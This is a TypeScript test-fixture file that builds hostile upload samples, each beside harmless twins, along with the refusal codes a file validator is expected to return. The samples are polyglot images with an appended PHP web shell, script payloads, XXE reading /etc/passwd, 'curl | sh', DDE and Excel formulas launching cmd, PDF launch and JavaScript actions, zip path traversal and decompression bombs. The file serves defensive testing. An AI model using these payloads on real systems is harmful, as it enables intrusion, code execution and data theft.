// Hostile files, each made here and with what is to become of it: a code, or what is left of it when it is
// neutralised. Beside them their harmless twins, which are taken. reliability.md 3.8.
import sharp from 'sharp';
import { crc32, deflateSync, gzipSync } from 'node:zlib';
import type { FileKind } from '#domain/files/kinds.ts';
import type { FileRefusal } from '#domain/files/refusals.ts';
import { hidden, makePdf, packed, stream } from './pdf-maker.ts';
import { docxParts, makeZip, odtParts, relation, xlsxParts, type Part } from './zip-maker.ts';

export interface Sample {
  name: string;
  bytes: Buffer;
  /** A code; or a kind, when it is taken. */
  becomes: FileRefusal | { kind: FileKind };
  /** None of these is left in what is kept. */
  without?: readonly string[];
}

const text = (content: string, encoding: BufferEncoding = 'utf8'): Buffer =>
  Buffer.from(content, encoding);
const join = (...parts: Buffer[]): Buffer => Buffer.concat(parts);

const page = '<html><body><script>alert(document.cookie)</script></body></html>';
const drawing =
  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><foreignObject/></svg>';

function chunk(type: string, body: Buffer): Buffer {
  const framed = join(text(type, 'latin1'), body);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(body.length);
  sum.writeUInt32BE(crc32(framed));
  return join(length, framed, sum);
}

/** A PNG that says it is so large, with a few bytes of points. */
function hugePng(width: number, height: number): Buffer {
  const size = Buffer.alloc(13);
  size.writeUInt32BE(width, 0);
  size.writeUInt32BE(height, 4);
  size.set([8, 2], 8);
  return join(
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', size),
    chunk('IDAT', deflateSync(Buffer.alloc(1_000))),
    chunk('IEND', Buffer.alloc(0)),
  );
}

async function pictures() {
  const plain = () =>
    sharp({ create: { width: 64, height: 48, channels: 3, background: { r: 40, g: 90, b: 80 } } });
  const exif = {
    IFD0: { Copyright: 'Rosenvägen 3', Make: 'Telefon' },
    IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '57/1 42/1 0/1', GPSLongitudeRef: 'E' },
  };
  const png = await plain().png().toBuffer();
  return {
    png,
    jpeg: await plain().jpeg().toBuffer(),
    webp: await plain().webp().toBuffer(),
    gif: await plain().gif().toBuffer(),
    tiff: await plain().tiff().toBuffer(),
    withPlace: await plain().withExif(exif).jpeg().toBuffer(),
    pngWithPlace: await plain().withExif(exif).png().toBuffer(),
    webpWithPlace: await plain().withExif(exif).webp().toBuffer(),
    avif: await plain().avif().toBuffer(),
    pngWithText: join(
      png.subarray(0, -12),
      chunk('tEXt', text(`Comment\0${page}`)),
      png.subarray(-12),
    ),
  };
}

const zip = (parts: readonly Part[], around = {}): Buffer => makeZip(parts, around);
const xml = (name: string, body: string): Part => ({ name, body });

export async function hostile(): Promise<Sample[]> {
  const is = await pictures();
  const archive = zip([xml('a.txt', 'a')]);
  const bomb = Buffer.alloc(120 * 1024 * 1024);
  const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
  const embedded = stream('/Type /EmbeddedFile', text('MZ'));
  const of = (
    name: string,
    bytes: Buffer,
    becomes: Sample['becomes'],
    without?: string[],
  ): Sample => ({
    ...{ name, bytes, becomes },
    ...(without ? { without } : {}),
  });
  const neutral = (name: string, kind: FileKind, bytes: Buffer, ...without: string[]): Sample =>
    of(name, bytes, { kind }, without);
  const docx = (more: Part[], inner?: string): Buffer => zip([...docxParts(inner), ...more]);
  const field = (words: string): string =>
    `<w:p><w:r><w:instrText>${words}</w:instrText></w:r></w:p>`;
  return [
    // Two things at once
    neutral('PNG with a page behind it', 'png', join(is.png, text(page)), '<script'),
    neutral('PNG with an archive behind it', 'png', join(is.png, archive), 'PK\x03\x04'),
    neutral('PNG with a page in a comment', 'png', is.pngWithText, '<script', 'tEXt'),
    neutral(
      'JPEG with PHP behind it',
      'jpeg',
      join(is.jpeg, text('<?php system($_GET[0]);')),
      '<?php',
    ),
    neutral('JPEG with an archive behind it', 'jpeg', join(is.jpeg, archive), 'PK\x03\x04'),
    neutral('WebP with a PDF behind it', 'webp', join(is.webp, makePdf()), '%PDF'),
    of('GIF with script', join(is.gif, text('/*alert(1)*/')), 'file_kind'),
    of('GIF that is a script too', text('GIF89a/*\x01\x01*/=1;alert(1)', 'latin1'), 'file_kind'),
    of('a PDF in a GIF', join(is.gif, makePdf()), 'file_foreign'),
    of('PDF with an archive behind it', join(makePdf(), archive), 'file_foreign'),
    of('PDF with a page behind it', join(makePdf(), text(page)), 'file_foreign'),
    of('PDF with a page before it', join(text(page), makePdf()), 'file_foreign'),
    of(
      'PDF with an archive in a stream',
      makePdf({ objects: [stream('', archive)] }),
      'file_foreign',
    ),
    of('archive with a picture before it', zip(docxParts(), { before: is.png }), { kind: 'png' }, [
      'PK\x03\x04',
    ]),
    of(
      'document with bytes between its parts',
      zip(docxParts(), { between: text(page) }),
      'file_foreign',
    ),
    of('document with a page behind it', zip(docxParts(), { after: text(page) }), 'file_foreign'),
    of('document with a page as its comment', zip(docxParts(), { comment: page }), 'file_foreign'),
    // What was written into pictures
    neutral('JPEG that says where', 'jpeg', is.withPlace, 'Exif', 'Rosen', 'Telefon'),
    neutral('PNG that says where', 'png', is.pngWithPlace, 'eXIf', 'Rosen', 'Telefon'),
    neutral('WebP that says where', 'webp', is.webpWithPlace, 'EXIF', 'Rosen', 'Telefon'),
    neutral(
      'PDF with a picture that says where',
      'pdf',
      makePdf({ objects: [stream('/Subtype /Image /Filter /DCTDecode', is.withPlace)] }),
      'Rosen',
      'Telefon',
    ),
    neutral(
      'document with a picture that says where',
      'docx',
      docx([{ name: 'word/media/image1.jpeg', body: is.withPlace, stored: true }]),
      'Rosen',
      'Telefon',
    ),
    neutral(
      'document that says who wrote it',
      'docx',
      docx([{ name: 'docProps/core.xml', body: '<a>Hemlig Skribent</a>', stored: true }]),
      'Hemlig',
      'docProps/core',
    ),
    // Larger than they look
    of('PNG of 50 000 × 50 000', hugePng(50_000, 50_000), 'file_bomb'),
    of('PNG of one row without an end', hugePng(2_000_000_000, 1), 'file_damaged'),
    of(
      'PDF that unpacks to 500 MB',
      makePdf({ objects: [packed('', Buffer.alloc(500 * 1024 * 1024))] }),
      'file_bomb',
    ),
    of(
      'PDF packed twice',
      makePdf({
        objects: [stream('/Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync(bomb)))],
      }),
      'file_bomb',
    ),
    of('document of 120 MB', docx([{ name: 'word/a.xml', body: bomb }]), 'file_bomb'),
    of(
      'document that says it is small',
      docx([{ name: 'word/a.xml', body: bomb, lies: { size: 100 } }]),
      'file_bomb',
    ),
    of(
      'archive in an archive in a document',
      docx([{ name: 'word/a.zip', body: zip([{ name: 'b', body: bomb }]) }]),
      'file_embedded',
    ),
    of(
      'document of 3 000 parts',
      docx(Array.from({ length: 3_000 }, (_, index) => xml(`word/${index}.xml`, '<a/>'))),
      'file_bomb',
    ),
    of('gzip', gzipSync(Buffer.alloc(1_000)), 'file_kind'),
    of('gzip of a drawing', gzipSync(text(drawing)), 'file_kind'),
    // What is no document
    of('page', text(page), 'file_kind'),
    of('page in UTF-16', join(text('\ufeff', 'utf16le'), text(page, 'utf16le')), 'file_kind'),
    of('page after a long text', text(`${'Hej. '.repeat(2_000)}${page}`), 'file_kind'),
    of('drawing with script', text(drawing), 'file_kind'),
    of('drawing in UTF-16', join(text('\ufeff', 'utf16le'), text(drawing, 'utf16le')), 'file_kind'),
    of(
      'XML with an entity',
      text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
      'file_kind',
    ),
    of('program of Windows', text('MZ\x90\0\x03\0\0\0', 'latin1'), 'file_kind'),
    of('program of Linux', text('\x7fELF\x02\x01\x01\0\0\0\0\0', 'latin1'), 'file_kind'),
    of('script of a shell', text('#!/bin/sh\ncurl example.test | sh\n'), 'file_kind'),
    of(
      'letter with a page (MHTML)',
      text('MIME-Version: 1.0\nContent-Type: text/html\n\n<p>'),
      'file_kind',
    ),
    of('rich text', text('{\\rtf1\\objdata 0105000002}'), 'file_kind'),
    of('text with a NUL', text('Hej\0hej'), 'file_kind'),
    of('text that is no text', Buffer.from([0xc3, 0x28, 0xa0, 0xa1]), 'file_kind'),
    of('TIFF', is.tiff, 'file_kind'),
    of('AVIF', is.avif, 'file_kind'),
    of('archive', archive, 'file_kind'),
    of('old Office', join(Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)), 'file_kind'),
    of(
      'Office with a password',
      join(
        Buffer.from('d0cf11e0a1b11ae1', 'hex'),
        Buffer.alloc(600),
        text('EncryptedPackage', 'utf16le'),
      ),
      'file_locked',
    ),
    of('nothing', Buffer.alloc(0), 'file_empty'),
    of('eleven megabytes', Buffer.alloc(11 * 1024 * 1024, 'a'), 'file_too_large'),
    // PDF that runs, fetches or hides
    of('PDF with JavaScript', makePdf({ objects: [script] }), 'file_active'),
    of(
      'PDF that opens with JavaScript',
      makePdf({ catalog: `/OpenAction ${script}` }),
      'file_active',
    ),
    of(
      'PDF with JavaScript by another spelling',
      makePdf({ catalog: '/OpenAction << /S /J#61vaScript /#4aS (1) >>' }),
      'file_active',
    ),
    of(
      'PDF with JavaScript in a packed list',
      makePdf({ objects: [hidden(script)] }),
      'file_active',
    ),
    of(
      'PDF with JavaScript when a page is left',
      makePdf({ page: `/AA << /C ${script} >>` }),
      'file_active',
    ),
    of(
      'PDF that starts a program',
      makePdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
      'file_active',
    ),
    of(
      'PDF that sends what is filled in',
      makePdf({
        page: '/Annots [<< /Subtype /Widget /A << /S /SubmitForm /F (http://a.test) >> >>]',
      }),
      'file_external',
    ),
    of(
      'PDF that goes to another file',
      makePdf({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\a.test\\\\b) >>' }),
      'file_external',
    ),
    of(
      'PDF with a file in it',
      makePdf({ objects: [embedded, '<< /Type /Filespec /EF << /F 4 0 R >> >>'] }),
      'file_embedded',
    ),
    of(
      'PDF with a file pinned to it',
      makePdf({ page: '/Annots [<< /Subtype /FileAttachment /FS << /F (a) >> >>]' }),
      'file_embedded',
    ),
    of('PDF with film', makePdf({ page: '/Annots [<< /Subtype /RichMedia >>]' }), 'file_active'),
    of(
      'PDF with a form that runs (XFA)',
      makePdf({ catalog: '/AcroForm << /XFA 4 0 R >>', objects: [stream('', text('<xdp/>'))] }),
      'file_active',
    ),
    of(
      'PDF with a password',
      makePdf({
        objects: [
          '<< /Filter /Standard /V 1 /R 2 /P -4 /O (aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) /U (aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) >>',
        ],
        trailer: '/Encrypt 4 0 R /ID [(a)(a)]',
      }),
      'file_locked',
    ),
    of('PDF cut off', makePdf().subarray(0, 200), 'file_damaged'),
    of(
      'PDF without a page',
      text('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'),
      'file_damaged',
    ),
    // Office that runs, fetches or hides
    of('Word with macros', docx([{ name: 'word/vbaProject.bin', body: 'macro' }]), 'file_active'),
    of(
      'Word with macros that says so',
      zip(docxParts(undefined, 'application/vnd.ms-word.document.macroEnabled.main+xml')),
      'file_active',
    ),
    of(
      'Word with a template from elsewhere',
      docx([
        xml('word/_rels/settings.xml.rels', relation('attachedTemplate', 'https://a.test/a.dotm')),
      ]),
      'file_external',
    ),
    of(
      'Word with a template, spelt by entities',
      docx([
        xml(
          'word/_rels/settings.xml.rels',
          relation('attachedTempl&#97;te', 'https://a.test/a.dotm', '&#69;xternal'),
        ),
      ]),
      'file_external',
    ),
    of(
      'Word with a picture from elsewhere',
      docx([xml('word/_rels/document.xml.rels', relation('image', 'https://a.test/pixel.png'))]),
      'file_external',
    ),
    of(
      'Word with a link to a program',
      docx([xml('word/_rels/document.xml.rels', relation('hyperlink', 'file:///c:/a.exe'))]),
      'file_external',
    ),
    of(
      'Word with a file in it',
      docx([{ name: 'word/embeddings/oleObject1.bin', body: 'MZ' }]),
      'file_embedded',
    ),
    of(
      'Word with a control',
      docx([{ name: 'word/activeX/activeX1.bin', body: 'x' }]),
      'file_active',
    ),
    of(
      'Word that calls a program',
      docx([], field('DDEAUTO c:\\\\windows\\\\cmd.exe')),
      'file_external',
    ),
    of(
      'Word that calls a program in pieces',
      docx([], `${field('DDE')}${field('AUTO cmd')}`),
      'file_external',
    ),
    of(
      'Word with an entity',
      docx([xml('word/a.xml', '<!DOCTYPE a [<!ENTITY b "b"><!ENTITY c "&b;&b;">]><a>&c;</a>')]),
      'file_active',
    ),
    of('Word with broken XML', docx([xml('word/a.xml', '<a><b></a>')]), 'file_damaged'),
    of('Word with a drawing', docx([xml('word/media/a.svg', drawing)]), 'file_embedded'),
    of(
      'Word with a page that calls itself a picture',
      docx([xml('word/media/a.png', page)]),
      'file_foreign',
    ),
    of('Excel that calls a program', zip(xlsxParts("cmd|' /C calc'!A0")), 'file_external'),
    of('Excel that fetches', zip(xlsxParts('WEBSERVICE("https://a.test")')), 'file_external'),
    of(
      'OpenDocument with macros',
      zip([...odtParts(), xml('Basic/Standard/a.xml', '<a/>')]),
      'file_active',
    ),
    of(
      'OpenDocument that listens',
      zip(odtParts('<script:event-listener xlink:href="vnd.sun.star.script:a"/>')),
      'file_active',
    ),
    of(
      'OpenDocument with a picture from elsewhere',
      zip(odtParts('<draw:image xlink:href="https://a.test/a.png"/>')),
      'file_external',
    ),
    of(
      'OpenDocument with a section from elsewhere',
      zip(odtParts('<text:section-source xlink:href="https://a.test/a.odt"/>')),
      'file_external',
    ),
    // Archives that lie
    of('document with a step up', docx([xml('../../etc/passwd', 'a')]), 'file_foreign'),
    of('document with a step up, backwards', docx([xml('word\\..\\a.xml', 'a')]), 'file_foreign'),
    of('document from the root', docx([xml('/etc/passwd', 'a')]), 'file_foreign'),
    of(
      'document with a link of Unix',
      docx([{ name: 'word/a.xml', body: '/etc/passwd', lies: { unix: 0o120777 } }]),
      'file_foreign',
    ),
    of(
      'document with the same part twice',
      docx([xml('word/Document.xml', '<a/>')]),
      'file_foreign',
    ),
    of(
      'document with two names for a part',
      docx([{ name: 'word/a.xml', body: '<a/>', innerName: 'word/b.exe' }]),
      'file_foreign',
    ),
    of(
      'document with a locked part',
      docx([{ name: 'word/a.xml', body: '<a/>', lies: { flags: 0x801 } }]),
      'file_locked',
    ),
    of(
      'document with a wrong sum',
      docx([{ name: 'word/a.xml', body: '<a/>', lies: { crc: 1 } }]),
      'file_damaged',
    ),
    of('document cut off', zip(docxParts()).subarray(0, 500), 'file_damaged'),
    of('document that counts wrong', zip(docxParts(), { count: 2 }), 'file_foreign'),
    // Pictures that are none
    of('PNG cut off', is.png.subarray(0, is.png.length - 30), 'file_damaged'),
    of('JPEG cut off', is.jpeg.subarray(0, 200), 'file_damaged'),
    of('a head of a picture and a page', join(is.png.subarray(0, 8), text(page)), 'file_damaged'),
    of('WebP that is a film', text('RIFF\x10\0\0\0WEBPJUNK....', 'latin1'), 'file_damaged'),
  ];
}

/** What people have, and is taken. */
export async function harmless(): Promise<Sample[]> {
  const is = await pictures();
  const of = (name: string, kind: FileKind, bytes: Buffer): Sample => ({
    name,
    bytes,
    becomes: { kind },
  });
  return [
    of('PNG', 'png', is.png),
    of('JPEG', 'jpeg', is.jpeg),
    of('WebP', 'webp', is.webp),
    of('PDF', 'pdf', makePdf()),
    of(
      'PDF with a link and a first page',
      'pdf',
      makePdf({
        catalog: '/OpenAction [3 0 R /Fit]',
        page: '/Annots [<< /Subtype /Link /A << /S /URI /URI (https://www.1177.se) >> >>]',
        objects: [packed('', text('BT (Hej) Tj ET'))],
      }),
    ),
    of(
      'PDF that speaks of JavaScript',
      'pdf',
      makePdf({ objects: [packed('', text('BT (/JavaScript) Tj ET'))] }),
    ),
    of('text', 'text', text('Hej! Mamma < pappa, 3 > 2.\nÅäö.')),
    of('text in UTF-16', 'text', join(text('\ufeff', 'utf16le'), text('Hej på dig', 'utf16le'))),
    of('text in Arabic', 'text', text('مرحبا بكم')),
    of('Word', 'docx', makeZip(docxParts())),
    of(
      'Word with a link and a picture',
      'docx',
      makeZip([
        ...docxParts(),
        xml('word/_rels/document.xml.rels', relation('hyperlink', 'https://www.1177.se')),
        { name: 'word/media/image1.png', body: is.png },
      ]),
    ),
    of(
      'Word that says DDE',
      'docx',
      makeZip(docxParts('<w:p><w:r><w:t>DDE and LINK</w:t></w:r></w:p>')),
    ),
    of('Excel', 'xlsx', makeZip(xlsxParts())),
    of(
      'OpenDocument',
      'odt',
      makeZip(odtParts('<text:p><text:a xlink:href="https://www.1177.se">1177</text:a></text:p>')),
    ),
  ];
}
